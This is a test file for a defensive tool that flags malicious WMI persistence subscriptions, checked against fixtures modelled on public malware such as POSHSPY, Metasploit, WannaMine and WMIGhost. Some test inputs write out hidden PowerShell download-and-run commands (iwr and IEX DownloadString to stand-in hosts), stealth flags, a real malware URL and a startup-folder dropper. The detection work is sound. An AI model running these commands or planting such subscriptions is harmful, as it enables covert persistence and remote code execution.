/**
 * Rules on the real malicious / emulation examples of wmi-tradecraft §7 and the real SCM subscription of the
 * Windows 10 repository (§6): which rules fire, with which evidence, and the severity they add up to.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { evaluate, RULE_IDS, RULES } from '../src/analysis/rules/index.js';
import type { RuleInfo, Verdict } from '../src/analysis/rules/index.js';
import type { JoinedSubscription } from '../src/model/types.js';
import { DEFAULT_ALLOWLIST } from '../src/analysis/allowlist.js';
import { decodePayloads, escapeControl, sidText } from '../src/analysis/decode.js';
import {
  atomicActiveScript,
  atomicCommandLine,
  binding,
  botnet,
  consumer,
  filter,
  input,
  metasploit,
  MSF_B64,
  MSF_DECODED,
  POSHSPY_DECODED,
  poshspy,
  scm,
  SCM_CONSUMER_VALUES,
  SCM_QUERY,
  totallyLegitCustomClass,
  totallyLegitScript,
  wannamine,
  wmighost,
} from './support/rule-fixtures.js';

const run = (i: JoinedSubscription, lists = [DEFAULT_ALLOWLIST]): Verdict => evaluate(i, lists);
const ids = (v: Verdict): string[] => v.reasons.map((r) => r.id).sort();
const reason = (v: Verdict, id: string) => {
  const r = v.reasons.find((x) => x.id === id);
  assert.ok(r, `rule ${id} did not fire; fired: ${ids(v).join(', ')}`);
  return r;
};

describe('rules on the public examples', () => {
  it('POSHSPY: scheduled Win32_LocalTime trigger, task-name masquerade, -enc PowerShell reading a WMI class property → critical', () => {
    const v = run(poshspy());
    assert.deepEqual(ids(v), [
      'consumer-exec',
      'name-windows-task',
      'payload-encoded-command',
      'payload-fileless-storage',
      'payload-powershell',
      'payload-stealth-flags',
      'trigger-schedule',
    ]);
    assert.equal(v.severity, 'critical');
    assert.deepEqual(v.decoded, [POSHSPY_DECODED]);
    assert.match(reason(v, 'payload-fileless-storage').evidence, /decoded payload 1: .*\[WmiClass\]/);
    assert.match(reason(v, 'name-windows-task').evidence, /filter "BfeOnServiceStartTypeChange", consumer "WindowsParentalControlsMigration"/);
    assert.match(reason(v, 'trigger-schedule').evidence, /^Win32_LocalTime in filter query/);
    assert.equal(v.allowlisted, null);
  });

  it('Metasploit UPDATER: 4625 trigger, powershell -nop -w hidden -noni -e <base64> decoded → critical', () => {
    const v = run(metasploit());
    assert.deepEqual(ids(v), ['consumer-exec', 'payload-encoded-command', 'payload-powershell', 'payload-stealth-flags', 'trigger-failed-logon']);
    assert.equal(v.severity, 'critical');
    assert.deepEqual(v.decoded, [MSF_DECODED]);
    const enc = reason(v, 'payload-encoded-command');
    assert.deepEqual(enc.attack, ['T1027', 'T1059.001']);
    assert.ok(enc.evidence.startsWith(`-e ${MSF_B64.slice(0, 24)}… decodes to: ${MSF_DECODED}`), enc.evidence);
    assert.match(reason(v, 'payload-stealth-flags').evidence, /"-nop", "-w hidden", "-noni"/);
    assert.match(reason(v, 'trigger-failed-logon').evidence, /EventCode = '4625/);
    assert.deepEqual(reason(v, 'consumer-exec').attack, ['T1546.003', 'T1047']);
    assert.equal(v.summary, `powershell.exe -nop -w hidden -noni -e ${MSF_B64}`);
  });

  it('WannaMine: SCM Event8 look-alike names + payload read from root\\default:systemcore_Updater8 → critical', () => {
    const v = run(wannamine());
    assert.deepEqual(ids(v), [
      'consumer-exec',
      'name-lookalike',
      'payload-dynamic-code',
      'payload-fileless-storage',
      'payload-obfuscation',
      'payload-powershell',
      'payload-stealth-flags',
      'static-class-payload',
      'trigger-uptime',
    ]);
    assert.equal(v.severity, 'critical');
    assert.match(reason(v, 'name-lookalike').evidence, /filter "SCM Event8 Log Filter" imitates known-good "SCM Event Log Filter"; consumer "SCM Event8 Log Consumer" imitates known-good "SCM Event Log Consumer"/);
    assert.match(reason(v, 'static-class-payload').evidence, /^ROOT\\default:systemcore_Updater8 property funs holds 6000 characters/);
    assert.equal(v.allowlisted, null);
  });

  it('Atomic Red Team: uptime trigger running notepad.exe → medium; the VBScript WScript.Shell variant → high', () => {
    const cmd = run(atomicCommandLine());
    assert.deepEqual(ids(cmd), ['consumer-exec', 'trigger-uptime']);
    assert.equal(cmd.severity, 'medium');
    assert.match(reason(cmd, 'trigger-uptime').evidence, /^Win32_PerfFormattedData_PerfOS_System in filter query/);

    const vbs = run(atomicActiveScript());
    assert.deepEqual(ids(vbs), ['consumer-activescript', 'consumer-exec', 'script-process-start', 'trigger-uptime']);
    assert.equal(vbs.severity, 'high');
    assert.deepEqual(reason(vbs, 'consumer-activescript').attack, ['T1059.005']);
    assert.match(reason(vbs, 'script-process-start').evidence, /"Wscript\.Shell", "\.Run"/);
    assert.equal(vbs.summary, 'VBScript: Set objws = CreateObject("Wscript.Shell")');
  });

  it('WMIGhost JScript (real ScriptText from Sysmon 20): shell, XMLHTTP/ADODB download, eval, fromCharCode, URLs → critical', () => {
    const v = run(wmighost());
    assert.deepEqual(ids(v), [
      'consumer-activescript',
      'consumer-exec',
      'creator-user-account',
      'payload-download',
      'payload-dynamic-code',
      'payload-network-indicator',
      'payload-obfuscation',
      'script-process-start',
    ]);
    assert.equal(v.severity, 'critical');
    assert.match(reason(v, 'payload-download').evidence, /"ADODB\.Stream", "Microsoft\.XmlHttp"/);
    assert.match(reason(v, 'payload-network-indicator').evidence, /"http:\/\/kumardeep\.sosblogs\.com\/The-first-blog-b1\/RSS-b1-rss2-posts\.htm"/);
    assert.match(reason(v, 'payload-dynamic-code').evidence, /"eval\("/);
    assert.match(reason(v, 'payload-obfuscation').evidence, /"String\.fromCharCode"/);
    assert.match(reason(v, 'creator-user-account').evidence, /PC04\\IEUser/);
    assert.ok(v.summary.startsWith('var sXmlUrl="http://kumardeep.sosblogs.com/'), v.summary);
    assert.ok(v.summary.length <= 400);
    assert.deepEqual(v.decoded, []);
  });

  it('BotFilter82 / BotConsumer23 (Sysmon sample): cmd.exe on a perf-counter trigger, made by a user in 16 s → high', () => {
    const v = run(botnet());
    assert.deepEqual(ids(v), ['consumer-exec', 'created-together', 'creator-user-account', 'payload-lolbin', 'trigger-uptime']);
    assert.equal(v.severity, 'high');
    assert.deepEqual(reason(v, 'payload-lolbin').attack, ['T1059.003']);
    assert.match(reason(v, 'created-together').evidence, /filter 2019-05-11T17:58:39\.7460000Z, consumer 2019-05-11T17:58:23\.3400000Z, binding 2019-05-11T17:58:23\.4180000Z \(16\.4 s apart\)/);
    assert.equal(v.summary, 'c:\\Windows\\System32\\cmd.exe');
  });

  it('custom namespace root\\totallylegit: ActiveScript consumer → critical; custom consumer class → high', () => {
    const s = run(totallyLegitScript());
    assert.deepEqual(ids(s), ['consumer-activescript', 'consumer-exec', 'namespace-custom', 'payload-user-writable-path', 'trigger-schedule']);
    assert.equal(s.severity, 'critical');
    assert.equal(reason(s, 'namespace-custom').evidence, 'namespace ROOT\\totallylegit');

    const c = run(totallyLegitCustomClass());
    assert.deepEqual(ids(c), ['consumer-custom-class', 'namespace-custom']);
    assert.equal(c.severity, 'high');
    assert.equal(reason(c, 'consumer-custom-class').evidence, 'consumer class __SystemClass → __IndicationRelated → __EventConsumer → TotallyLegitConsumer');
    assert.equal(c.summary, 'TotallyLegitConsumer: Payload = ping');
  });
});

describe('the SCM Event Log subscription and its look-alikes', () => {
  it('the real trio of the Windows 10 repository is allow-listed by the default allowlist, at info, no reasons', () => {
    const v = run(scm());
    assert.deepEqual(v.allowlisted, { by: 'default', entry: 'SCM Event Log Filter -> SCM Event Log Consumer' });
    assert.equal(v.severity, 'info');
    assert.equal(v.score, 0);
    assert.deepEqual(v.reasons, []);
    assert.equal(v.summary, 'event log source "Service Control Manager" (EventID 0, EventType 1)');
  });

  it('without the default allowlist (--no-default-allowlist) it is not marked, and no rule fires on it', () => {
    const v = run(scm(), []);
    assert.equal(v.allowlisted, null);
    assert.deepEqual(v.reasons, []);
    assert.equal(v.severity, 'info');
  });

  it('SCM Event8 / SCM Events / DSM Event Log with the exact SCM values are not allow-listed → high', () => {
    for (const [f, c] of [
      ['SCM Event8 Log Filter', 'SCM Event8 Log Consumer'],
      ['SCM Events Log Filter', 'SCM Events Log Consumer'],
      ['DSM Event Log Filter', 'DSM Event Log Consumer'],
      ['SCM Event8 Log Filter2', 'SCM Event8 Log Consumer2'],
    ] as const) {
      const v = run(scm(f, c));
      assert.equal(v.allowlisted, null, f);
      assert.deepEqual(ids(v), ['name-lookalike'], f);
      assert.equal(v.severity, 'high', f);
      assert.match(reason(v, 'name-lookalike').evidence, new RegExp(`consumer "${c}" imitates known-good "SCM Event Log Consumer"`));
    }
  });

  it('the exact SCM names with other content are not allow-listed and are flagged as reusing the name', () => {
    // Same names, different query.
    const q = run(scm('SCM Event Log Filter', 'SCM Event Log Consumer', `${SCM_QUERY} where sid <> ''`));
    assert.equal(q.allowlisted, null);
    assert.deepEqual(ids(q), ['name-lookalike']);
    assert.match(reason(q, 'name-lookalike').evidence, /filter "SCM Event Log Filter" has the name of known-good "SCM Event Log Filter" but does not match its allowlist entry/);
    assert.equal(q.severity, 'high');

    // Same names, an extra key property (a remote event-log server).
    const unc = run(scm(undefined, undefined, undefined, { ...SCM_CONSUMER_VALUES, UNCServerName: 'attacker-host' }));
    assert.equal(unc.allowlisted, null);

    // The consumer name on a CommandLineEventConsumer.
    const cmd = run(
      input({
        filter: filter('SCM Event Log Filter', SCM_QUERY),
        consumer: consumer('CommandLineEventConsumer', 'SCM Event Log Consumer', { CommandLineTemplate: 'cmd.exe /c calc.exe' }),
        binding: binding('SCM Event Log Filter', 'CommandLineEventConsumer', 'SCM Event Log Consumer'),
      }),
    );
    assert.equal(cmd.allowlisted, null);
    assert.deepEqual(ids(cmd), ['consumer-exec', 'name-lookalike', 'payload-lolbin']);
    assert.equal(cmd.severity, 'critical');

    // The real filter and consumer, but a binding that points the filter at another consumer.
    const b = scm();
    b.binding = binding('SCM Event Log Filter', 'CommandLineEventConsumer', 'SCM Event Log Consumer');
    assert.equal(run(b).allowlisted, null);

    // The real trio in another namespace.
    const ns = scm();
    ns.namespace = 'ROOT\\default';
    assert.equal(run(ns).allowlisted, null);
    assert.deepEqual(ids(run(ns)), ['name-lookalike', 'namespace-default']);
  });

  it('short names are not look-alikes of BVTFilter by a letter (BotFilter82 is not flagged, BVT Filter2 is)', () => {
    assert.ok(!ids(run(botnet())).includes('name-lookalike'));
    const v = run(input({ filter: filter('BVT Filter2', 'SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "Win32_Processor"') }));
    assert.deepEqual(ids(v), ['name-lookalike']);
  });

  it('an allow-listed finding keeps its reasons at info', () => {
    const v = run(metasploit(), [{ name: 'mine', entries: [{ id: 'msf-lab', filter: { ...metasploit().filter!.values }, consumer: { className: 'CommandLineEventConsumer', values: { ...metasploit().consumer!.values } } }] }]);
    assert.deepEqual(v.allowlisted, { by: 'mine', entry: 'msf-lab' });
    assert.equal(v.severity, 'info');
    assert.equal(v.score, 0);
    assert.deepEqual(ids(v), ['consumer-exec', 'payload-encoded-command', 'payload-powershell', 'payload-stealth-flags', 'trigger-failed-logon']);
  });
});

describe('structure rules', () => {
  it('an orphaned uptime filter is low', () => {
    const v = run(input({ status: 'orphan', filter: filter('Leftover', "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'") }));
    assert.deepEqual(ids(v), ['orphan', 'trigger-uptime']);
    assert.equal(v.severity, 'low');
    assert.equal(reason(v, 'orphan').evidence, 'filter without a binding');
    assert.equal(v.summary, '(no consumer)');
  });

  it('timer, process-start and logon triggers; root\\cimv2 namespace; LogFile consumer writing a .bat into Startup', () => {
    const v = run(
      input({
        namespace: 'ROOT\\cimv2',
        filter: filter('t', "SELECT * FROM __TimerEvent WHERE TimerID = 'trigger'"),
        consumer: consumer('LogFileEventConsumer', 'l', { Filename: 'C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.bat', Text: 'powershell -w hidden -c "iwr http://203.0.113.7/x"' }),
      }),
    );
    assert.deepEqual(ids(v), [
      'consumer-logfile-script',
      'namespace-nonstandard',
      'payload-download',
      'payload-network-indicator',
      'payload-powershell',
      'payload-stealth-flags',
      'payload-user-writable-path',
      'trigger-timer',
    ]);
    assert.deepEqual(reason(v, 'consumer-logfile-script').attack, ['T1546.003', 'T1547.001']);
    assert.match(reason(v, 'payload-network-indicator').evidence, /"http:\/\/203\.0\.113\.7\/x", "203\.0\.113\.7"/);
    assert.ok(ids(run(input({ filter: filter('p', "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName= 'CALC.EXE'") }))).includes('trigger-process-start'));
    assert.ok(ids(run(input({ filter: filter('u', "SELECT * FROM __InstanceCreationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_LoggedOnUser'") }))).includes('trigger-logon'));
  });

  it('creator: the SID byte array of a system principal does not fire, a user SID does', () => {
    const sys = input({ filter: filter('x', 'select * from __InstanceCreationEvent within 5 where TargetInstance isa "Win32_Service"', { CreatorSID: '1,2,0,0,0,0,0,5,32,0,0,0,32,2,0,0' }) });
    assert.ok(!ids(run(sys)).includes('creator-user-account'));
    const user = input({ filter: filter('x', 'select * from __InstanceCreationEvent within 5 where TargetInstance isa "Win32_Service"', { CreatorSID: 'S-1-5-21-1-2-3-1001' }) });
    assert.equal(reason(run(user), 'creator-user-account').evidence, 'created by S-1-5-21-1-2-3-1001');
  });
});

describe('decoding and text', () => {
  it('decodes nested -EncodedCommand once more, and the -enc spellings PowerShell accepts', () => {
    const inner = "Write-Output 'inner layer'";
    const b = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');
    const outer = `powershell.exe -NoProfile -EncodedCommand ${b(inner)}`;
    const v = run(input({ consumer: consumer('CommandLineEventConsumer', 'n', { CommandLineTemplate: `pwsh /ec "${b(outer)}"` }) }));
    assert.deepEqual(v.decoded, [outer, inner]);
    assert.match(reason(v, 'payload-encoded-command').evidence, /\(\+1 more, nested\)$/);
    for (const flag of ['-e', '-ec', '-en', '-enc', '-EncodedCommand', '/enc', '\u2013enc', '-ENCODEDCOMMAND']) {
      assert.deepEqual(decodePayloads(`powershell ${flag} ${b(inner)}`).map((d) => d.text), [inner], flag);
    }
    // Not PowerShell, not an encoded command, or not text: nothing decoded.
    assert.deepEqual(decodePayloads(`foo.exe -e ${b(inner)}`), []);
    assert.deepEqual(decodePayloads('powershell -ep bypass -file x.ps1'), []);
    assert.deepEqual(decodePayloads(`powershell -enc ${Buffer.from([0xde, 0xad, 0xbe, 0xef, 0x01, 0x9f, 0x33, 0x77, 0x12, 0x80, 0xff, 0xfe]).toString('base64')}`), []);
    // A UTF-8 FromBase64String literal inside the decoded command.
    const lit = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://example.invalid/a")').toString('base64');
    const inner2 = `[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${lit}'))`;
    const d = decodePayloads(`powershell -e ${b(inner2)}`);
    assert.deepEqual(d.map((x) => [x.via, x.depth]), [['-e', 1], ['FromBase64String', 2]]);
    const v2 = run(input({ consumer: consumer('CommandLineEventConsumer', 'n', { CommandLineTemplate: `powershell -e ${b(inner2)}` }) }));
    assert.ok(ids(v2).includes('payload-download'));
    assert.ok(ids(v2).includes('payload-dynamic-code'));
  });

  it('summary is one line with control characters escaped', () => {
    const v = run(input({ consumer: consumer('CommandLineEventConsumer', 'n', { CommandLineTemplate: 'cmd.exe /c echo a\r\nb\u001b[31m\u202e' }) }));
    assert.equal(v.summary, 'cmd.exe /c echo a\\r\\nb\\x1b[31m\\u202e');
    assert.equal(escapeControl('\t'), '\\t');
  });

  it('CreatorSID byte arrays become SIDs', () => {
    assert.equal(sidText('[1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0]'), 'S-1-5-32-544');
    assert.equal(sidText('{1,1,0,0,0,0,0,5,18,0,0,0}'), 'S-1-5-18');
    assert.equal(sidText('1,2,3'), null);
  });
});

describe('RULES', () => {
  it('every rule id is unique and every fired reason is documented with its title, ATT&CK ids and score', () => {
    const byId = new Map<string, RuleInfo>(RULES.map((r) => [r.id, r]));
    assert.equal(byId.size, RULES.length);
    const all = [poshspy(), metasploit(), wannamine(), atomicCommandLine(), atomicActiveScript(), wmighost(), botnet(), totallyLegitScript(), totallyLegitCustomClass()].flatMap((i) => run(i).reasons);
    for (const r of all) {
      const doc = byId.get(r.id)!;
      assert.equal(r.title, doc.title);
      assert.equal(r.score, doc.score);
      assert.ok(r.attack.length > 0 && r.attack.every((a) => doc.attack.includes(a)), r.id);
      assert.ok(r.evidence.length > 0 && !/[\r\n]/.test(r.evidence), r.id);
    }
  });

  it('the table holds every rule id once, in the order of RULE_IDS, each with a theme', () => {
    assert.deepEqual(RULES.map((r) => r.id), [...RULE_IDS]);
    for (const r of RULES) assert.ok(r.title.length > 0 && r.theme.length > 0 && r.score >= 0, r.id);
  });
});
